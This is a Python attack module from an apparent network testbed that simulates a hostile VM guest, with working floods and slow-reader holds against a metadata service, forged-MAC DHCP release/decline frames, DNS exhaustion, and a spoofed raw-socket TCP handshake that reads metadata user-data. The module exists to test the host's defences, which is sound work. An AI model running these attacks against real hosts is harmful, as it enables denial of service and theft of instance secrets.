"""What a hostile guest does to its host's flat services, as a process run inside a VM namespace.

`python -m testbed.attacks KIND [options]` runs one attack until `--seconds` pass (or its count is sent) and
prints a JSON summary line. Kinds:

- `metadata-pipeline`: `--conns` connections, each writing pipelined GETs as fast as the socket takes them,
  never reading a reply;
- `metadata-hold`: keeps `--conns` connections open (reopening what the server closes), each with one
  pipelined batch it never reads (slow readers up to the descriptor limit);
- `dhcp`: `--count` RELEASE/DECLINE frames on `--ifname`, chaddr alternating `--mac` and the `--forge` MACs;
- `dns-udp`: queries for names the upstream never answers in time, as fast as the socket takes them;
- `dns-tcp`: keeps `--conns` TCP connections to port 53 open, each asking one slow name;
- `steal`: a hand-made TCP handshake and GET `--path` to `--host`, sent from (`--mac`, `--ip`) to the
  Ethernet address `--dst-mac`, reading whatever comes back on `--ifname` whoever it is addressed to
  (promiscuous): it prints what it received (`data`) and whether the handshake got an answer (`synack`).
"""

from __future__ import annotations

import argparse
import asyncio
import errno
import json
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Coroutine
from typing import Any

from dnslib import DNSRecord

from agentkit.addr import METADATA_ADDRESS
from flatnet.dhcp import codec as c

PIPELINE = 1000  # requests per write


def _request(path: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {METADATA_ADDRESS}\r\n\r\n".encode()


async def _connect(host: str, port: int) -> socket.socket | None:
    sock = socket.socket()
    sock.setblocking(False)
    try:
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, (host, port)), 3)
    except (OSError, TimeoutError):
        sock.close()
        return None
    return sock


async def _open(a: argparse.Namespace, stats: dict[str, int], port: int | None = None) -> socket.socket | None:
    """A connection to the target, counted (a failure waits a little before the next try)."""
    sock = await _connect(a.host, port or a.port)
    if sock is None:
        stats["failed"] += 1
        await asyncio.sleep(0.05)
        return None
    stats["connections"] += 1
    return sock


async def _until(deadline: float, body: Callable[[], Coroutine[Any, Any, None]]) -> None:
    while time.monotonic() < deadline:
        await body()


async def metadata_pipeline(a: argparse.Namespace, stats: dict[str, int]) -> None:
    batch = _request(a.path) * PIPELINE
    deadline = time.monotonic() + a.seconds

    async def one() -> None:
        sock = await _open(a, stats)
        if sock is None:
            return
        try:
            while time.monotonic() < deadline:
                try:
                    stats["bytes"] += sock.send(batch)
                except BlockingIOError:
                    await asyncio.sleep(0.01)
        except OSError:
            stats["closed"] += 1
        finally:
            sock.close()

    await asyncio.gather(*(_until(deadline, one) for _ in range(a.conns)))


async def _hold(a: argparse.Namespace, stats: dict[str, int], port: int, payload: Callable[[], bytes]) -> None:
    """Keep `--conns` connections open, each sending `payload()` once and never reading a reply, until the
    server closes them (then open another) or time is up."""
    deadline = time.monotonic() + a.seconds

    async def one() -> None:
        sock = await _open(a, stats, port)
        if sock is None:
            return
        try:
            sock.send(payload())
            while time.monotonic() < deadline and not _closed(sock):
                await asyncio.sleep(0.5)
        except OSError:
            pass
        finally:
            stats["closed"] += 1
            sock.close()

    await asyncio.gather(*(_until(deadline, one) for _ in range(a.conns)))


async def metadata_hold(a: argparse.Namespace, stats: dict[str, int]) -> None:
    await _hold(a, stats, a.port, lambda: _request(a.path) * 50)


def _closed(sock: socket.socket) -> bool:
    try:
        return sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False


def _frame(src: bytes, payload: bytes) -> bytes:
    """Ethernet broadcast / IPv4 0.0.0.0 -> 255.255.255.255 / UDP 68 -> 67."""
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    total = sum(struct.unpack("!10H", ip))
    total = (total & 0xFFFF) + (total >> 16)
    ip = ip[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + ip[12:]
    return b"\xff" * 6 + src + b"\x08\x00" + ip + udp + payload


async def dhcp(a: argparse.Namespace, stats: dict[str, int]) -> None:
    own = bytes.fromhex(a.mac.replace(":", ""))
    macs = [own, *(bytes.fromhex(m.replace(":", "")) for m in a.forge)]
    frames = []
    for i, chaddr in enumerate(macs * 2):
        mtype = c.RELEASE if i % 2 == 0 else c.DECLINE
        pkt = c.DhcpPacket(xid=random.randrange(1 << 31), chaddr=chaddr,
                           options={c.OPT_MESSAGE_TYPE: bytes((mtype,)), c.OPT_REQUESTED_IP: socket.inet_aton(a.ip)})
        frames.append(_frame(own, c.build(pkt)))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((a.ifname, 0))
    deadline = time.monotonic() + a.seconds
    while stats["frames"] < a.count and time.monotonic() < deadline:
        try:
            sock.send(frames[stats["frames"] % len(frames)])
            stats["frames"] += 1
        except OSError as e:
            if e.errno != errno.ENOBUFS:
                raise
            await asyncio.sleep(0.001)
        if stats["frames"] % 500 == 0:
            await asyncio.sleep(0)


async def dns_udp(a: argparse.Namespace, stats: dict[str, int]) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.connect((a.host, 53))
    deadline = time.monotonic() + a.seconds
    while time.monotonic() < deadline:
        try:
            sock.send(_slow_query())
            stats["queries"] += 1
        except BlockingIOError:
            await asyncio.sleep(0.001)
        try:
            while sock.recv(4096):
                stats["answers"] += 1
        except (BlockingIOError, ConnectionRefusedError):
            pass
        if stats["queries"] % 200 == 0:
            await asyncio.sleep(0)


def _slow_query() -> bytes:
    return DNSRecord.question(f"{random.randrange(1 << 30)}.slow.example.net").pack()


async def dns_tcp(a: argparse.Namespace, stats: dict[str, int]) -> None:
    await _hold(a, stats, 53, lambda: struct.pack("!H", len(query := _slow_query())) + query)


async def steal(a: argparse.Namespace, stats: dict[str, Any]) -> None:
    from scapy.config import conf
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether
    from scapy.packet import Raw
    from scapy.supersocket import SuperSocket

    sock: SuperSocket = conf.L2socket(iface=a.ifname, promisc=True)
    sport, seq = random.randrange(20000, 60000), random.randrange(1 << 31)
    head = Ether(src=a.mac, dst=a.dst_mac) / IP(src=a.ip, dst=a.host)

    def replies(timeout: float) -> list[Any]:
        got, deadline = [], time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            if not select.select([sock], [], [], left)[0]:
                break
            pkt = sock.recv()
            if pkt is not None and pkt.haslayer(TCP) and pkt[TCP].sport == a.port and pkt[TCP].dport == sport:
                got.append(pkt)
                if pkt[TCP].flags & 0x01:  # FIN: the server is done
                    break
        return got

    sock.send(head / TCP(sport=sport, dport=a.port, flags="S", seq=seq))
    synack = [p for p in replies(2) if p[TCP].flags & 0x12 == 0x12]
    stats["synack"] = len(synack)
    if synack:
        ack = synack[0][TCP].seq + 1
        request = f"GET {a.path} HTTP/1.1\r\nHost: {a.host}\r\nConnection: close\r\n\r\n".encode()
        sock.send(head / TCP(sport=sport, dport=a.port, flags="A", seq=seq + 1, ack=ack))
        sock.send(head / TCP(sport=sport, dport=a.port, flags="PA", seq=seq + 1, ack=ack) / Raw(request))
        data = b"".join(bytes(p[Raw].load) for p in replies(3) if p.haslayer(Raw))
        stats["data"] = data.decode(errors="replace")
    sock.close()


KINDS = {"metadata-pipeline": metadata_pipeline, "metadata-hold": metadata_hold, "dhcp": dhcp, "dns-udp": dns_udp,
         "dns-tcp": dns_tcp, "steal": steal}


def argv(kind: str, **options: Any) -> list[str]:
    """The command line of an attack (run it in the attacker's namespace)."""
    out = [sys.executable, "-m", "testbed.attacks", kind]
    for key, value in options.items():
        for v in value if isinstance(value, list) else [value]:
            out += [f"--{key}", str(v)]
    return out


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("kind", choices=sorted(KINDS))
    p.add_argument("--host", default=METADATA_ADDRESS)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--path", default="/latest/user-data")
    p.add_argument("--conns", type=int, default=20)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--count", type=int, default=50_000)
    p.add_argument("--ifname", default="eth0")
    p.add_argument("--mac", default="")
    p.add_argument("--ip", default="0.0.0.0")
    p.add_argument("--forge", action="append", default=[])
    p.add_argument("--dst-mac", default="ff:ff:ff:ff:ff:ff")
    a = p.parse_args()
    stats: dict[str, Any] = {k: 0 for k in ("connections", "failed", "closed", "bytes", "frames", "queries", "answers")}
    started = time.monotonic()
    asyncio.run(KINDS[a.kind](a, stats))
    print(json.dumps({"kind": a.kind, "seconds": round(time.monotonic() - started, 2),
                      **{k: v for k, v in stats.items() if v}}), flush=True)


if __name__ == "__main__":
    main()
